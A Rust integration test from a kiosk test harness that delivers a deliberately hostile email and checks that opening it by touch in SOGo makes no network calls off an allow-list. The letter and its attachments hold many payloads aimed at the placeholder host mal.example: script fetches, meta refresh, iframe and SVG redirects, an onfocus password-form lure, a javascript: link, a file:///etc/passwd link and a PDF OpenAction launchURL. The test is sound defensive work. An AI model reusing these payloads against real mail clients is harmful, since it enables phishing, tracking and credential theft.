//! Row 51: a stranger's letter in a real mailbox, opened by touch as an agent does. Nothing in it
//! acts, nothing is fetched for it, not even when the agent asks for its pictures, and its link
//! leads nowhere.

use crate::lure::REFUSED;
use borne_harness::agents::agent;
use borne_harness::groupware;
use borne_harness::letters;
use borne_harness::post::Letter;
use borne_harness::report::attempt;
use borne_harness::screen::{Frame, Region};
use borne_harness::settings::{Lure, Settings};
use borne_harness::touch::{self, Point};
use borne_harness::visit::{INBOX, SCREEN, Visit};
use borne_harness::wait_for;
use borne_harness::world::world;
use std::fs;
use std::path::Path;

/// SOGo's button that asks for the pictures of a letter.
const PICTURES: Point = (1228, 206);
/// Above the on-screen keyboard, which comes for the letter's form: the beginning of the letter.
const BEGINNING: Region = Region { x: 655, y: 170, width: 500, height: 180 };

#[test]
fn the_letter_of_a_stranger_opened_by_touch_does_nothing() {
    let world = world(Settings { trap: Lure::Listed, ..Settings::default() });
    let (trap, agent) = (world.trap(), agent("a.martin"));
    trap.forget();
    let _number = letter("Urgent").deliver(world.hall.town(), &agent);
    let tried = attempt(
        51,
        "a letter with scripts, frames, forms, pictures, style sheets and a link, opened, its pictures asked for, its link touched",
    );
    let mut visit = Visit::at(&world.terminal);
    visit.log_in(&agent);
    let page =
        visit.wait_for_picture("the inbox", INBOX, |frame| groupware::shows_inbox(frame, 100));
    visit.click(page.first_message());
    visit.wait_for_picture("the letter", INBOX, link);

    let refusals = || world.terminal.log("supervisor").matches(REFUSED).count();
    let before = refusals();
    assert!(asks(&world.terminal.look()), "positive control: SOGo knows of pictures elsewhere");
    visit.click(PICTURES);
    visit.wait_for_picture("SOGo's word about the pictures gone", INBOX, |frame| {
        (!asks(frame)).then_some(())
    });
    let at = visit.wait_for_picture("the letter with its pictures asked for", INBOX, link);
    visit.click(at);
    wait_for("the link to be refused", SCREEN, || refusals() > before);
    let button = visit.wait_for_picture("a word about it", SCREEN, touch::notice);
    visit.click(button);
    visit.wait_for_picture("the letter as it was", SCREEN, link);

    assert_eq!(world.terminal.state().as_deref(), Some("Active"));
    assert_eq!(trap.wire().strayed(), [], "packets to places off the list");
    assert_eq!(trap.asked_off_the_list(), Vec::<String>::new(), "names asked for");
    assert!(
        trap.requests().iter().all(|request| !request.host.contains("mal.example")),
        "{:?}",
        trap.requests()
    );
    tried.held();
    visit.log_out();
    world.rest();
}

/// The middle of the letter's first line, a link.
fn link(frame: &Frame) -> Option<Point> {
    let Region { x: left, y: top, width, height } = BEGINNING;
    let blue = |at: &Point| {
        let [red, green, blue] = frame.pixel(at.0, at.1);
        blue > 180 && red < 90 && green < 90
    };
    let found: Vec<Point> = (top..top + height)
        .flat_map(|y| (left..left + width).map(move |x| (x, y)))
        .filter(blue)
        .collect();
    (found.len() > 300).then(|| found[found.len() / 2])
}

/// Whether SOGo asks if the letter's pictures shall be fetched: its sign for it is orange.
fn asks(frame: &Frame) -> bool {
    groupware::count(
        frame,
        Region { x: 670, y: 190, width: 50, height: 35 },
        |[red, green, blue]| red > 200 && (50..140).contains(&green) && blue < 80,
    ) > 100
}

/// The letter of row 51 and of the attack mail.
pub fn letter(subject: &str) -> Letter {
    let html = "<h1><a href='https://mal.example/premier'>Cliquez ici</a></h1><script>fetch('https://mal.example/script')</script>
        <meta http-equiv=refresh content='0;url=https://mal.example/refresh'><base href='https://mal.example/'>
        <link rel=stylesheet href='https://mal.example/sheet.css'><style>@import 'https://mal.example/import.css'; body { background: url(https://mal.example/bg.png) }</style>
        <img src='https://mal.example/pixel.png' onerror=\"location='https://mal.example/onerror'\"><img srcset='https://mal.example/set.png 2x'>
        <iframe src='https://mal.example/frame'></iframe><iframe srcdoc=\"<script>top.location='https://mal.example/srcdoc'</script>\"></iframe>
        <object data='https://mal.example/object'></object><embed src='https://mal.example/embed'><video src='https://mal.example/video' autoplay poster='https://mal.example/poster.png'></video>
        <svg onload=\"location='https://mal.example/svg'\"><image href='https://mal.example/svg.png'/></svg>
        <form action='https://mal.example/form' method=post><input name=motdepasse autofocus onfocus=\"location='https://mal.example/focus'\"><button>Connexion</button></form>
        <a href='file:///etc/passwd'>fichier</a> <a href='javascript:location=\"https://mal.example/js\"'>script</a>
        <p><a href='https://mal.example/lien' style='display:block;font-size:120px'>LIEN LIEN LIEN LIEN</a></p>";
    let page = "<h1>pi\u{e8}ce</h1><script>fetch('https://mal.example/attached');location='https://mal.example/attached-location'</script><img src='https://mal.example/attached.png'>";
    let svg = "<svg xmlns='http://www.w3.org/2000/svg' width='600' height='400'><rect width='600' height='400' fill='#00c000'/><script>location='https://mal.example/svg'</script><image href='https://mal.example/x.png'/></svg>";
    Letter::new(subject, html)
        .attach("page.html", "text/html", page.as_bytes())
        .attach("image.svg", "image/svg+xml", svg.as_bytes())
        .attach(
            "lettre.docx",
            "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
            b"PK\x03\x04lettre",
        )
        .attach(
            "tableau.ods",
            "application/vnd.oasis.opendocument.spreadsheet",
            b"PK\x03\x04tableau",
        )
        .attach("archive.zip", "application/zip", b"PK\x03\x04archive")
        .attach("message.eml", "message/rfc822", b"Subject: x\r\n\r\nhttps://mal.example/\r\n")
        .attach("outil.exe", "application/x-msdownload", b"MZoutil")
        .attach("papier.pdf", "application/pdf", &pdf())
        .attach("image.png", "image/png", &png())
}

/// A page with a green square, a script that runs at its opening and a link as large as itself.
fn pdf() -> Vec<u8> {
    letters::pdf_page(
        "/OpenAction<</S/JavaScript/JS(app.launchURL\\('https://mal.example/pdf'\\);)>>",
        "0 0.75 0 rg 0 0 600 800 re f",
        Some(
            "<</Type/Annot/Subtype/Link/Rect[0 0 600 800]/Border[0 0 0]/A<</S/URI/URI(https://mal.example/pdf-link)>>>>",
        ),
    )
}

/// A green picture.
fn png() -> Vec<u8> {
    let frame = Frame {
        width: 500,
        height: 400,
        pixels: std::sync::Arc::new([0, 0xc0, 0, 0].repeat(500 * 400)),
        at: std::time::Instant::now(),
    };
    let path = Path::new("/var/tmp/borne/green.png");
    frame.save(path).expect("write a picture");
    let bytes = fs::read(path).expect("read it");
    fs::remove_file(path).expect("remove it");
    bytes
}
